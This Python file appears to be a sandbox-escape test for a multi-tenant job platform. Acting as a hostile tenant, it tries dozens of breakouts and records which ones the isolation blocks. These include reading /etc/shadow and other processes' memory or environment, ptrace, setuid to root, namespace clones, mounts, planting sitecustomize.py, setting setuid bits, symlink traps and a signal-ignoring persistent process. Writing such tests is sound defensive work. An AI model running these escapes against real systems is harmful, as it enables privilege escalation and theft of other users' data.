"""Run by a job of a hostile tenant: every way out it can think of. It knows all paths and numbers of its victim.

Each attempt returns what it got hold of, or raises, or returns None: only the first is an escape. It runs with nothing
but the standard library, as user code would.
"""

# An attacker calls the system as plainly as can be, and no attempt may end the others.
# ruff: noqa: BLE001, PTH103, PTH109, PTH110, PTH112, PTH115, PTH116, PTH118, PTH123, PTH207, PTH208

from __future__ import annotations

import ctypes
import errno
import fcntl
import glob
import json
import os
import re
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

MAP: dict[str, Any] = json.loads(Path(__file__).with_name("map.json").read_text())  # what the attacker knows
HOME, VICTIM = Path(MAP["home"]), Path(MAP["victim_folder"])
CANARY = re.compile(rb"fl-canary-[0-9a-f]{32}")  # the shape of the victim's secret: the pattern does not match itself

libc = ctypes.CDLL(None, use_errno=True)
ATTEMPTS: dict[str, Callable[[], Any]] = {}


def attempt(function: Callable[[], Any]) -> Callable[[], Any]:
    ATTEMPTS[function.__name__] = function
    return function


def call(name: str, *arguments: Any) -> int:
    """A C function that must not succeed; an OSError when it fails."""
    result = int(getattr(libc, name)(*arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(number: int, *arguments: Any) -> int:
    return call("syscall", ctypes.c_long(number), *arguments)


def others() -> Iterator[int]:
    """Every process number that could be somebody else's."""
    own = [path for path in glob.glob("/proc/[0-9]*/stat") if _of_this_sandbox(path)]
    mine = {int(task) for path in own for task in os.listdir(path.replace("/stat", "/task"))}  # and threads
    yield from (pid for pid in {*range(1, 400), *MAP["victim_pids"], *MAP["platform_pids"]} if pid not in mine)


def _of_this_sandbox(path: str) -> bool:
    try:
        return os.stat(path).st_uid == os.getuid()
    except OSError:
        return False


# ---------------------------------------------------------------- files


@attempt
def list_the_victims_folder() -> Any:
    return os.listdir(VICTIM)


@attempt
def read_the_victims_output() -> Any:
    return (VICTIM / "output" / "answer.txt").read_text()


@attempt
def read_the_victims_log() -> Any:
    return [path.read_text() for path in (VICTIM / "logs").glob("*")] or (VICTIM / "logs" / "w0.log").read_text()


@attempt
def read_the_victims_code() -> Any:
    return (VICTIM / "code" / "victim.py").read_text()


@attempt
def read_a_code_bundle() -> Any:
    return [path.read_bytes()[:10] for path in Path(MAP["bundle"]).parent.iterdir()] or Path(MAP["bundle"]).read_bytes()


@attempt
def write_into_the_victims_folder() -> Any:
    (VICTIM / "output" / "answer.txt").write_text("mine")
    return "written"


@attempt
def list_other_jobs() -> Any:
    return [name for name in os.listdir(HOME / "jobs") if name != os.environ["FAIRLEAD_JOB"]] or None


@attempt
def read_the_store() -> Any:
    return (HOME / "fairlead.db").read_bytes()[:16]


@attempt
def write_the_store() -> Any:
    return os.open(HOME / "fairlead.db", os.O_RDWR)


@attempt
def read_the_admins_token() -> Any:
    return (HOME / "profile.json").read_text()


@attempt
def read_the_key_of_the_secrets() -> Any:
    return (HOME / "secret.key").read_bytes()


@attempt
def read_the_platforms_logs() -> Any:
    return os.listdir(HOME / "logs")


@attempt
def read_the_victims_snapshots_in_memory() -> Any:
    return [str(path) for path in Path(MAP["memory"]).rglob("*") if MAP["victim"] in str(path)] or None


@attempt
def read_somebody_elses_shared_memory() -> Any:
    return Path("/dev/shm", MAP["shm"]).read_text()


@attempt
def write_into_dev_shm_of_the_machine() -> Any:
    Path("/dev/shm", MAP["marker"]).write_text("here")
    return None  # looked for from outside


@attempt
def read_a_file_of_the_machines_owner() -> Any:
    return Path(MAP["private"]).read_text()


@attempt
def read_a_world_readable_file_that_was_not_granted() -> Any:
    return Path(MAP["public"]).read_text()


@attempt
def read_the_shadow_file() -> Any:
    return Path("/etc/shadow").read_text()


@attempt
def list_homes() -> Any:
    found = [str(path) for home in ("/home", "/root") for path in Path(home).glob("*") if path.exists()]
    reachable = {Path(entry) for entry in [sys.prefix, sys.base_prefix, *sys.path, MAP["project"]]}
    return [path for path in found if not any(Path(path) in [each, *each.parents] for each in reachable)] or None


@attempt
def change_the_platforms_python() -> Any:
    return os.open(os.__file__, os.O_WRONLY)


@attempt
def give_the_platforms_python_to_everybody() -> Any:
    own = "/proc/self/exe"  # leads past every mount
    if "memfd:" in os.readlink(own):  # a copy in memory, which means nothing to anybody
        return None
    Path(own).chmod(stat.S_IMODE(os.stat(own).st_mode) | stat.S_ISUID)
    return os.stat(own)


@attempt
def put_a_module_where_the_platform_imports() -> Any:
    for entry in sys.path:
        own = entry.startswith((str(HOME / "jobs"), "/tmp/"))  # its /tmp is its own, whatever lies in the machine's
        if entry and os.path.isdir(entry) and not own:
            try:
                Path(entry, "sitecustomize.py").write_text("import os")
            except OSError:
                continue
            return entry
    return None


@attempt
def hard_link_the_victims_file() -> Any:
    os.link(VICTIM / "output" / "answer.txt", "stolen")
    return Path("stolen").read_text()


@attempt
def walk_out_through_the_root_of_process_one() -> Any:
    return [name for name in os.listdir("/proc/1/root" + str(HOME)) if name != "jobs"] or None  # where one's own lies


@attempt
def walk_out_through_an_open_descriptor() -> Any:
    for descriptor in os.listdir("/proc/self/fd"):
        target = os.readlink(f"/proc/self/fd/{descriptor}")
        if target.startswith("/") and not target.startswith((str(HOME / "jobs"), "/dev/null", "/proc", os.getcwd())):
            return target
        try:
            return os.listdir(f"/proc/self/fd/{descriptor}/..") and target if os.path.isdir(target) else None
        except OSError:
            continue
    return None


@attempt
def open_a_file_by_its_handle() -> Any:
    handle = struct.pack("=Ii8s", 8, 1, struct.pack("=II", 2, 0))  # inode 2: the root of the disk
    return syscall(304, os.open("/", os.O_RDONLY), ctypes.c_char_p(handle), os.O_RDONLY)


@attempt
def reach_the_disk_itself() -> Any:
    for name in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/fuse", "/dev/loop-control"):
        try:
            return os.open(name, os.O_RDONLY)
        except OSError:
            continue
    return None


@attempt
def make_a_device_of_the_disk() -> Any:
    os.mknod("disk", stat.S_IFBLK | 0o666, os.makedev(254, 0))
    return os.open("disk", os.O_RDONLY)


# ---------------------------------------------------------------- processes


@attempt
def see_processes_of_others() -> Any:
    seen = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    return [pid for pid in seen if os.stat(f"/proc/{pid}").st_uid != os.getuid()] or None


@attempt
def signal_processes_of_others() -> Any:
    hit = []
    for pid in others():
        try:
            os.kill(pid, 0)
        except OSError:
            continue
        hit.append(pid)
    return hit or None


@attempt
def read_the_environment_of_others() -> Any:
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            text = Path(path).read_bytes()
        except OSError:
            continue
        if CANARY.search(text):
            return path
    return None


@attempt
def trace_process_one() -> Any:
    return call("ptrace", 16, 1, 0, 0)


@attempt
def trace_the_parent() -> Any:
    return call("ptrace", 0x4206, os.getppid() or 2, 0, 0)


@attempt
def read_the_memory_of_another_process() -> Any:
    buffer = ctypes.create_string_buffer(64)
    local, remote = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 64), (ctypes.c_ulong * 2)(0x400000, 64)
    return syscall(310, 1, local, 1, remote, 1, 0)


@attempt
def find_another_tenants_secret_in_ones_own_memory() -> Any:
    """A worker is forked from a server that starts everybody's workers."""
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if not rights.startswith("rw") or end - start > 1 << 30 or "[v" in line:
                continue
            try:
                memory.seek(start)
                if CANARY.search(memory.read(end - start)):
                    return line
            except (OSError, ValueError):
                continue
    return None


@attempt
def take_a_descriptor_of_another_process() -> Any:
    return syscall(438, os.pidfd_open(1), 0, 0)


@attempt
def become_root() -> Any:
    os.setuid(0)
    return os.getuid()


@attempt
def become_the_victims_user() -> Any:
    os.setuid(MAP["victim_uid"])
    return os.getuid()


@attempt
def become_root_by_a_set_user_id_program() -> Any:
    for program in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/usr/bin/newgrp"):
        if os.path.exists(program):
            done = subprocess.run([program, "--help"], capture_output=True, check=False)
            with open(f"/proc/{os.getpid()}/status") as status:
                flags = status.read()
            if "NoNewPrivs:\t1" not in flags:
                return (program, done.returncode)
    return None


@attempt
def hold_any_capability() -> Any:
    with open("/proc/self/status") as status:
        held = {line.split()[0]: int(line.split()[1], 16) for line in status if line.startswith("Cap")}
    return {name: value for name, value in held.items() if value} or None


@attempt
def run_without_a_system_call_filter() -> Any:
    with open("/proc/self/status") as status:
        mode = next(line.split()[1] for line in status if line.startswith("Seccomp:"))
    return None if mode == "2" else mode


@attempt
def make_a_user_namespace_and_be_root_in_it() -> Any:
    return call("unshare", 0x10000000) or "unshared"


@attempt
def clone_into_a_user_namespace() -> Any:
    pid = syscall(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid


@attempt
def clone_into_a_user_namespace_by_the_newer_call() -> Any:
    arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    pid = syscall(435, arguments, ctypes.sizeof(arguments))
    if pid == 0:
        os._exit(0)
    return pid


@attempt
def mount_something() -> Any:
    os.makedirs("mountpoint", exist_ok=True)
    return call("mount", b"tmpfs", b"mountpoint", b"tmpfs", 0, None) or "mounted"


@attempt
def make_the_python_writable_by_a_remount() -> Any:
    return call("mount", None, sys.prefix.encode(), None, 32 | 4096, None) or "remounted"


@attempt
def unmount_what_covers_the_rest() -> Any:
    return call("umount2", b"/tmp", 2) or "unmounted"


@attempt
def change_the_root() -> Any:
    os.chroot("/proc")
    return os.getcwd()


@attempt
def enter_the_namespaces_of_process_one() -> Any:
    return call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0) or "entered"


@attempt
def load_a_program_into_the_kernel() -> Any:
    return syscall(321, 5, ctypes.create_string_buffer(128), 128)


@attempt
def use_the_kernels_keyring() -> Any:
    return syscall(248, b"user", b"mine", b"x", 1, -3)


@attempt
def set_up_an_io_ring() -> Any:
    return syscall(425, 8, ctypes.create_string_buffer(256))


@attempt
def catch_page_faults() -> Any:
    return syscall(323, 0)


@attempt
def type_into_the_terminal_of_others() -> Any:
    return fcntl.ioctl(0, 0x5412, b"x")


# ---------------------------------------------------------------- network and talk


def connect(family: int, address: Any) -> str:
    with socket.socket(family) as line:
        line.settimeout(2)
        line.connect(address)
        return f"connected to {address}"


@attempt
def reach_the_api_over_loopback() -> Any:
    return connect(socket.AF_INET, ("127.0.0.1", MAP["api_port"]))


@attempt
def reach_the_victims_port() -> Any:
    return connect(socket.AF_INET, ("127.0.0.1", MAP["victim_port"]))


@attempt
def reach_a_port_of_the_machine() -> Any:
    return connect(socket.AF_INET, ("127.0.0.1", MAP["machine_port"]))


@attempt
def reach_the_victims_abstract_socket() -> Any:
    return connect(socket.AF_UNIX, "\0" + MAP["abstract"])


@attempt
def reach_an_abstract_socket_of_the_machine() -> Any:
    return connect(socket.AF_UNIX, "\0" + MAP["machine_abstract"])


@attempt
def reach_the_victims_unix_socket() -> Any:
    return connect(socket.AF_UNIX, MAP["victim_socket"])


@attempt
def command_a_node_manager() -> Any:
    for path in MAP["sockets"]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as line:
                try:
                    line.connect(path)
                except OSError:
                    continue
                return path
    return None


@attempt
def reach_the_outside() -> Any:
    return connect(socket.AF_INET, ("192.0.2.1", 80))  # an address for documentation: leads nowhere even when open


@attempt
def see_network_cards() -> Any:
    return [name for _, name in socket.if_nameindex() if name != "lo"] or None


@attempt
def talk_to_the_machine_below() -> Any:
    return socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK


@attempt
def listen_to_the_wire() -> Any:
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


@attempt
def read_the_victims_system_v_memory() -> Any:
    return call("shmget", MAP["sysv_key"], 64, 0)


@attempt
def rename_the_machine() -> Any:
    socket.sethostname("mine")
    return socket.gethostname()


# ---------------------------------------------------------------- limits


@attempt
def raise_the_limit_of_open_files() -> Any:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
    return hard + 1


@attempt
def raise_the_limit_of_file_size() -> Any:
    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return resource.getrlimit(resource.RLIMIT_FSIZE)


@attempt
def write_a_control_group() -> Any:
    for path in [*MAP["cgroups"], "/sys/fs/cgroup"]:
        for name in ("memory.limit_in_bytes", "memory.max", "cgroup.procs", "tasks"):
            if os.path.exists(os.path.join(path, name)):
                return os.open(os.path.join(path, name), os.O_WRONLY)
    return None


@attempt
def be_nicer_to_oneself() -> Any:
    return os.nice(-5)


@attempt
def run_in_real_time() -> Any:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
    return "real time"


@attempt
def be_spared_by_the_out_of_memory_killer() -> Any:
    Path("/proc/self/oom_score_adj").write_text("-1000")
    return "spared"


@attempt
def lock_memory_without_end() -> Any:
    _, hard = resource.getrlimit(resource.RLIMIT_MEMLOCK)
    return hard if hard == resource.RLIM_INFINITY or hard > 1 << 30 else None


@attempt
def change_the_clock() -> Any:
    import time

    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return "changed"


@attempt
def stay_when_the_gang_is_gone() -> Any:
    """Its heartbeat is looked for from outside."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                if number not in (signal.SIGKILL, signal.SIGSTOP):
                    signal.signal(number, signal.SIG_IGN)
            os.execv(sys.executable, [sys.executable, "-c", "import time\nwhile True: time.sleep(1)", MAP["marker"]])
        os._exit(0)
    return None


@attempt
def take_the_place_of_ones_own_log() -> Any:
    """The platform writes the log: a link in its place must not be followed."""
    logs = Path(os.environ["FAIRLEAD_OUTPUT"]).parent / "logs"
    logs.rename(logs.with_name("moved"))
    return "moved"


@attempt
def leave_links_for_the_platform_to_follow() -> Any:
    """Read from outside, as the platform: a result must not contain what they point to."""
    output = Path(os.environ["FAIRLEAD_OUTPUT"])
    (output / "store").symlink_to(HOME / "fairlead.db")
    (output / "all").symlink_to(HOME)
    os.mkfifo(output / "pipe")
    return None


def training() -> None:
    """The same from inside a worker that was forked, not executed; there is nothing to train."""
    main()
    raise RuntimeError("all was tried")


def main() -> None:
    found: dict[str, str] = {}
    for name, function in ATTEMPTS.items():
        try:
            got = function()
        except OSError as error:
            found[name] = f"held: {errno.errorcode.get(error.errno or 0, error)}"
        except Exception:
            found[name] = f"held: {traceback.format_exc(limit=1).splitlines()[-1]}"
        else:
            found[name] = "held: nothing there" if got is None else f"ESCAPED: {got!r}"
        print(f"{name}: {found[name]}", flush=True)
    with open(Path(os.environ["FAIRLEAD_OUTPUT"], "attempts.json"), "w") as file:
        json.dump(found, file)


if __name__ == "__main__":
    main()
